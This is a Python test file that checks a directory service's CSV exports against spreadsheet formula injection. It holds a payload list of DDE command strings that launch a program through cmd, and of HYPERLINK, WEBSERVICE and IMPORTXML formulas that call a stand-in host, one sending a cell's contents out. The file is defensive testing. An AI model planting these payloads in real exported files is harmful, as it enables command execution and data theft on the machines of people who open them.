"""SP-29: nothing in a table that leaves is a formula to a spreadsheet, and a program reads all of it as it was."""

import csv
import re

import pytest
from django.core.management import call_command
from hypothesis import example, given
from hypothesis import strategies as st

from breakwater.formats.cells import as_meant, as_text, is_formula
from breakwater.interop.package import write_package
from breakwater.interop.publishing import every_service
from breakwater.interop.tests.test_hsds import read
from breakwater.resources.models import Organization, Service
from breakwater.resources.tests.packages import hsds_3, write_tables

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212"
_BEFORE = ("", " ", "\t", "\r", "\n", "\r\n ", "\u3000", "\xa0", "\u200b", "\ufeff", "\x00 ".strip("\x00"))
_HARM = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://canary.example?x="&A1,"Open")', 'WEBSERVICE("http://canary.example")',
    'IMPORTXML("http://canary.example","//a")', "SUM(1+1)*cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"x")', "A1",
)  # fmt: skip
PAYLOADS = sorted({
    *(f"{before}{sign}{_HARM[number % len(_HARM)]}" for number, before in enumerate(_BEFORE) for sign in SIGNS),
    *(f"={one}" for one in _HARM), *(f"@{one}" for one in _HARM[:3]), "-2+3+cmd|' /C calc'!A0", "+1-212-555-0100+A1",
    *(f"Meals{mark}={one}" for mark in ";\t\n\r" for one in _HARM[:4]), "a;'=1;''@b", "a\t+x",
    "Meals;-1+cmd|' /C calc'!A0",
    "-", "=", "+", "@", "- Meals at noon", "=\n1", "+1 (212) 555-0100;=A1", '"=1+1"'[1:], "'=1+1", "''=1+1",
})  # fmt: skip
PLAIN = (
    "", "Meals at noon", "-89.65", "+1 (212) 555-0100", "12 - 14", "a@example.org", "'tis", "3=3", "''", "\u3000Refuge",
    "Meals:\n- bread\n+ soup", "Mon; Tue", "from 9;-89.65",
)  # fmt: skip


def begins_a_formula(cell):
    """What a spreadsheet would say, written down once more and otherwise: after what is not seen, which sign comes."""
    seen = "".join(one for one in cell if not one.isspace() and one.isprintable())
    is_number = cell.lstrip("+-").replace(".", "", 1).isdecimal() and cell.isascii()
    is_phone = cell.startswith("+") and cell.isascii() and not set(cell[1:]) - set("0123456789 ().-")
    return seen[:1] != "" and seen[0] in SIGNS and not is_number and not is_phone


def cells_of(path):
    """Every cell of a table, also as it is read by whoever takes another sign for what parts the cells."""
    text = path.read_text(encoding="utf-8")
    yield from (cell for row in csv.reader(text.splitlines(keepends=True)) for cell in row)
    for line in text.split("\n"):
        for sign in ";\t":
            first, *others = next(csv.reader([line], delimiter=sign), []) or [""]
            yield "" if re.match(r"[^\w=@\"']*[-+]", first) else first  # a line of a list
            yield from others


def test_of_over_sixty_payloads_none_is_left_and_what_is_none_is_not_touched():
    assert len(PAYLOADS) > 60
    assert [
        one for one in PAYLOADS if any(begins_a_formula(cell) for cell in re.split("[;\t]", as_text(one)))
    ] == []
    assert [one for one in PAYLOADS if "'" not in as_text(one)] == []
    assert [one for one in PAYLOADS if one[0] in SIGNS and not as_text(one).startswith("'")] == []
    assert [one for one in PLAIN if as_text(one) != one or is_formula(one)] == []


_SIGNS_AND_MORE = st.text(st.sampled_from(f"'{SIGNS};; \t\r\u3000\u200b0a.()") | st.characters(), max_size=12)


@given(_SIGNS_AND_MORE)
@example("'=")
@example("for;'tis\t'x")
def test_whatever_is_written_is_no_formula_and_is_read_as_it_was(cell):
    assert not begins_a_formula(as_text(cell))
    assert as_meant(as_text(cell)) == cell


@pytest.mark.django_db
def test_what_the_directory_says_of_itself_is_no_formula_in_its_files_and_comes_back(tmp_path):
    """A payload in every name, description and number that anybody could have sent us."""
    texts = [one for one in PAYLOADS if "\0" not in one]
    package = hsds_3(
        tmp_path / "package",
        organizations=[
            {"id": f"o{number}", "name": f"=House {number}", "description": one} for number, one in enumerate(texts)
        ],
        services=[
            {"id": f"s{number}", "organization_id": f"o{number}", "name": f"+Help {number}", "description": one,
             "status": "active", "eligibility_description": one}
            for number, one in enumerate(texts)
        ],
    )  # fmt: skip
    read(package, "theirs")
    write_package(tmp_path / "out", every_service())
    cells = 0
    for path in (tmp_path / "out").glob("*.csv"):
        found = list(cells_of(path))
        cells += len(found)
        assert [cell for cell in found if begins_a_formula(cell)] == [], path.name
    assert cells > 10 * len(texts)
    read(tmp_path / "out", "back")
    for model, fields in (
        (Organization, ("name", "description")),
        (Service, ("name", "description", "eligibility")),
    ):
        told = {
            source: sorted(model.objects.filter(source=source).values_list(*fields))
            for source in ("theirs", "back")
        }
        assert told["theirs"] == told["back"]
        assert len(told["back"]) == len(texts)


@pytest.mark.django_db
def test_a_list_of_what_was_wrong_with_a_directory_runs_nothing_of_it(tmp_path):
    harm = '=HYPERLINK("http://canary.example";"Open")'
    package = hsds_3(tmp_path / "package")
    write_tables(package, phones=[{"id": "p1", "service_id": harm, "number": "(217) 555-0100"}])
    call_command("directory_import", str(package), "--report", str(tmp_path / "wrong.csv"), "--source", "x")
    cells = list(cells_of(tmp_path / "wrong.csv"))
    assert any(harm[:30] in cell for cell in cells)
    assert [cell for cell in cells if begins_a_formula(cell)] == []
